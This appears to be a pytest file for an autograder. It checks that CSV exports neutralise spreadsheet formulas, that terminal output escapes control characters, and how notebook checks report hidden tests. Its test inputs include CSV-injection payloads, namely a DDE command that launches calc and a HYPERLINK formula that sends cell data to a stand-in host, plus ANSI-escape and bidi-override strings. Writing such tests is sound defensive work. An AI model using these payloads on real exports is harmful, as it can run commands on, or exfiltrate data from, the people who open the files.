"""What comes from outside leaves for a spreadsheet or a terminal in a form that neither acts on."""

import csv
import io
import json

import pytest
from tiny_course import HEADER, RIGHT, WRONG, answer, code, hand_in, plain_grader, test_cell, write_set
from typer.testing import CliRunner

from autograder import cli
from autograder.course.folders import open_course
from autograder.grading.check import ALL_HIDDEN, check
from autograder.grading.run import grade
from autograder.records import Settings
from autograder.report.export import export, spreadsheet_cell
from autograder.report.marks import submissions_of

FORMULAS = [
    "=1+1", "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1",
    '"=1+1', '=HYPERLINK("https://evil.example?"&A1,"x")', "＝1+1", "|calc", "%0A=1",
]  # fmt: skip
ODD = [
    "[anna]",
    "[b]",
    "[bold red]x",
    "=1+1",
    "a\nb",
    "\x1b[31mred",
    "\u202etset",
    "a\u200bb",
    "x" * 200,
    "-5",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_text_in_a_spreadsheet(text):
    cell = spreadsheet_cell(text)
    assert cell.startswith("'")
    assert not set(cell) & set("\t\r\n")


@pytest.mark.parametrize(
    "value", [5.0, -2.5, 0, "-5", "+12", "anna", "Müller, Jörg", "2026-01-01 00:00:00", ""]
)
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert spreadsheet_cell(value) == value
    assert type(spreadsheet_cell(value)) is type(value)


@pytest.fixture
def odd(released):
    for student in ODD:
        hand_in(released, student, answer(released, WRONG))
    grade(released, "tiny", Settings(), grader=plain_grader)
    return released


def test_every_cell_of_an_export_is_safe_and_numbers_are_numbers(odd, tmp_path):
    assert export(odd, "tiny", tmp_path / "tiny.csv", cells=True) == len(ODD)
    text = (tmp_path / "tiny.csv").read_text(encoding="utf-8-sig")
    assert len(text.splitlines()) == len(ODD) + 1
    # This reader makes numbers of all that is not quoted.
    rows = list(csv.reader(io.StringIO(text), quoting=csv.QUOTE_NONNUMERIC))
    for row in rows[1:]:
        numbers = [value for value in row if isinstance(value, float)]
        assert len(numbers) == 6
        for value in row:
            assert isinstance(value, float) or value == "-5" or not value.startswith(("=", "+", "-", "@"))


def unseen(text: str) -> list[str]:
    return [character for character in text if character in "\x1b\u202e\u200b\r\x07"]


@pytest.mark.parametrize(
    "words", [("report", "tiny"), ("feedback", "tiny"), ("grade", "tiny", "--student", "nobody\x1b[0m")]
)
def test_a_terminal_shows_every_character_and_no_markup(odd, words):
    told = CliRunner().invoke(cli.app, ["--course", str(odd.root.parent), *words], env={"COLUMNS": "400"})
    assert told.exception is None or isinstance(told.exception, SystemExit)
    assert unseen(told.output) == []
    if words[0] == "report":
        for shown in (
            "[anna]",
            "[b]",
            "[bold red]x",
            "=1+1",
            "a\\nb",
            "\\u202etset",
            "a\\u200bb",
            "x" * 200,
        ):
            assert shown in told.output
        assert "red" in told.output


def test_a_reason_of_a_students_making_is_shown_and_not_followed(released, monkeypatch):
    from autograder.report import feedback as module

    hand_in(released, "[b]", answer(released, RIGHT))
    grade(released, "tiny", Settings(), grader=plain_grader)

    def failing(self, submission):
        raise ValueError("[red]x[/b]\x1b[2J" + "y" * 10_000_000)

    monkeypatch.setattr(module._Writer, "write", failing)
    told = CliRunner().invoke(cli.app, ["--course", str(released.root.parent), "feedback", "tiny"])
    assert told.exit_code == 1
    assert "no page: [b]: ValueError: [red]x[/b]y" in told.output
    assert unseen(told.output) == []
    assert len(told.output) < 10_000


def test_a_message_to_the_instructor_is_part_of_the_report(folder):
    test = "### BEGIN HIDDEN TESTS\nscore = 1 * x\n### END HIDDEN TESTS\nscore\n"
    write_set(folder, "tiny", HEADER + code("a", "x = 2\n", solution=True) + test_cell("test-a", test, 2))
    course = open_course(folder)
    assert CliRunner().invoke(cli.app, ["--course", str(folder), "release", "tiny"]).exit_code == 0
    hand_in(course, "anna", answer(course, {"a": "x = 7"}))
    grade(course, "tiny", Settings())
    told = CliRunner().invoke(cli.app, ["--course", str(folder), "report", "tiny"])
    assert "anna, test-a: For the instructor: the test's last expression is 7" in told.output
    (submission,) = submissions_of(course, "tiny")
    assert submission.open == 1


def test_a_check_says_that_the_checks_of_a_cell_are_hidden(folder, tmp_path):
    hidden = "import math\n\n### BEGIN HIDDEN TESTS\nassert half(8) == 4\n### END HIDDEN TESTS\n"
    solution = "def half(x):\n    ### BEGIN SOLUTION\n    return x / 2\n    ### END SOLUTION\n"
    tests = test_cell("test-seen", "assert half(2) == 1\n", 1) + test_cell("test-hidden", hidden, 1)
    write_set(folder, "tiny", HEADER + code("half", solution, solution=True) + tests)
    assert CliRunner().invoke(cli.app, ["--course", str(folder), "release", "tiny"]).exit_code == 0
    course = open_course(folder)
    path = tmp_path / "mine.ipynb"
    path.write_text(
        json.dumps(answer(course, {"half": "def half(x):\n    return x / 2\n"})), encoding="utf-8"
    )
    cells = {cell.grade_id: cell for cell in check(path).cells}
    assert (cells["test-seen"].verdict, cells["test-seen"].score) == ("passed", 1)
    assert (cells["test-hidden"].score, cells["test-hidden"].message) == (None, ALL_HIDDEN)
    told = CliRunner().invoke(cli.app, ["check", str(path)], env={"COLUMNS": "200"})
    assert told.exit_code == 0
    assert "1 of 1 test cell passed. All checks of 1 more are hidden." in told.output
    assert ALL_HIDDEN in told.output


def test_a_check_has_the_files_beside_the_notebook_as_far_as_they_count(folder, tmp_path):
    text = "def words():\n    ### BEGIN SOLUTION\n    return open('words.txt').read()\n    ### END SOLUTION\n"
    write_set(
        folder,
        "tiny",
        HEADER + code("words", text, solution=True) + test_cell("t", "assert words() == 'a b'\n", 1),
    )
    (folder / "solutions" / "tiny" / "words.txt").write_text("a b")
    assert (
        CliRunner().invoke(cli.app, ["--course", str(folder), "release", "tiny", "--no-calibrate"]).exit_code
        == 0
    )
    course, path = open_course(folder), tmp_path / "mine.ipynb"
    path.write_text(json.dumps(answer(course, {"words": text.replace("### BEGIN SOLUTION", "")})), "utf-8")
    (tmp_path / "words.txt").write_text("a b")
    assert [cell.verdict for cell in check(path).cells] == ["passed"]
    (tmp_path / "a film").write_bytes(b"0" * (Settings().file_megabytes << 20))
    assert [cell.verdict for cell in check(path).cells] == ["passed"], "what is too large is left out alone"
    (tmp_path / "a film").rename(tmp_path / "words.txt")
    assert [cell.verdict for cell in check(path).cells] == ["failed"]


def test_a_check_takes_an_answer_that_has_become_text_for_code_as_grading_does(released, tmp_path):
    path = tmp_path / "mine.ipynb"
    notebook = answer(released, RIGHT)
    cells = {cell["metadata"].get("nbgrader", {}).get("grade_id"): cell for cell in notebook["cells"]}
    half = cells["half"]
    half["cell_type"] = "markdown"  # what the key M does in Jupyter
    del half["outputs"], half["execution_count"]
    path.write_text(json.dumps(notebook), "utf-8")
    told = CliRunner().invoke(cli.app, ["check", str(path)], env={"COLUMNS": "200"})
    assert told.exit_code == 0, told.output
    assert "The cell `half` has become text." in told.output
    assert "2 of 2 test cells passed." in told.output
    hand_in(released, "anna", notebook)
    grade(released, "tiny", Settings())
    (submission,) = submissions_of(released, "tiny")
    assert submission.final == 5


def test_a_check_counts_answers_in_words_apart(folder, tmp_path):
    question = (
        '\n+++ {"nbgrader": {"grade": true, "grade_id": "why", "locked": false, "points": 4, '
        '"schema_version": 3, "solution": true, "task": false}}\n\n'
        "### BEGIN SOLUTION\nSo.\n### END SOLUTION\n"
    )
    write_set(
        folder,
        "tiny",
        HEADER + code("a", "a = 1\n", solution=True) + test_cell("t", "assert a\n", 1) + question,
    )
    assert (
        CliRunner().invoke(cli.app, ["--course", str(folder), "release", "tiny", "--no-calibrate"]).exit_code
        == 0
    )
    path = tmp_path / "mine.ipynb"
    path.write_text(json.dumps(answer(open_course(folder), {"a": "a = 1"})), "utf-8")
    told = CliRunner().invoke(cli.app, ["check", str(path)], env={"COLUMNS": "200"})
    assert "1 of 1 test cell passed. 1 answer is marked by a person." in told.output
